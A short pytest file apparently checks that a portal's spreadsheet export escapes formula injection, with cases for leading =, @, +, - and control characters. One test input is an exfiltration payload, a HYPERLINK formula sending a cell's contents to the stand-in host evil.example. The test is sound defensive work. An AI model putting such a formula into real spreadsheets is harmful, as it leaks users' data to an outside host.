"""What people typed is text in a spreadsheet, never a formula."""

from __future__ import annotations

import pytest

from portal.panels.public import spreadsheet_text


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-1", "'-1"),
        ("\x01=1+1", "'=1+1"),
        ("a\x01\x02\x1bb", "ab"),
        ("two\nlines", "two\nlines"),
        ("Zoë & Söhne", "Zoë & Söhne"),
    ],
)
def test_a_cell(typed: str, cell: str) -> None:
    assert spreadsheet_text(typed) == cell
